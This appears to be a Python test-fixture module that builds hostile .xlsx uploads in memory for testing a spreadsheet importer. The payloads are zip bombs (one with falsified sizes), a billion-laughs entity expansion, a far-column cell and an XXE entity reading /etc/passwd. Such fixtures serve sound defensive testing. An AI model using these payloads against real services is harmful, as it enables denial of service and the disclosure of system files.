"""Hostile .xlsx files built in memory, each a few kilobytes: what an attacker uploads."""

from __future__ import annotations

import io
import zipfile

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="花名册" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
HEADER_ROW = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>工号</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>姓名</t></is></c></row>'
)
EMPTY_STRINGS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
)


def sheet_xml(rows: str, *, before: str = "") -> str:
    return f"{SHEET_HEAD}{before}<sheetData>{HEADER_ROW}{rows}</sheetData></worksheet>"


def workbook(
    sheet: str | bytes,
    *,
    shared: str | bytes = EMPTY_STRINGS,
    extra: dict[str, bytes] | None = None,
) -> io.BytesIO:
    """A workbook with one sheet, its parts written as given (deflated)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("xl/workbook.xml", WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", shared)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    buffer.seek(0)
    return buffer


def far_column() -> io.BytesIO:
    """The 1.6 KB workbook of the report: one cell at column AAAAAAA."""
    return workbook(
        sheet_xml('<row r="2"><c r="AAAAAAA2" t="inlineStr"><is><t>x</t></is></c></row>')
    )


def zip_bomb(megabytes: int = 60) -> io.BytesIO:
    """A sheet that inflates to `megabytes` of XML from a few tens of kilobytes."""
    filler = '<row r="2"><c t="inlineStr"><is><t>' + "a" * 200 + "</t></is></c></row>"
    count = megabytes * 1024 * 1024 // len(filler)
    return workbook(sheet_xml(filler * count))


def lying_sizes(megabytes: int = 60) -> io.BytesIO:
    """A zip bomb whose central directory claims its sheet is 1 KB."""
    filler = '<row><c t="inlineStr"><is><t>a</t></is></c></row>'
    sheet = sheet_xml(filler * (megabytes * 1024 * 1024 // len(filler)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in _parts(sheet).items():
            z.writestr(name, data)
        z.getinfo("xl/worksheets/sheet1.xml").file_size = 1024
    buffer.seek(0)
    return buffer


def _parts(sheet: str) -> dict[str, str]:
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": EMPTY_STRINGS,
    }


def billion_laughs() -> io.BytesIO:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    shared = (
        f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<si><t>&lol9;</t></si></sst>"
    )
    return workbook(sheet_xml('<row r="2"><c r="A2" t="s"><v>0</v></c></row>'), shared=shared)


def external_entity() -> io.BytesIO:
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'{HEADER_ROW}<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return workbook(sheet)
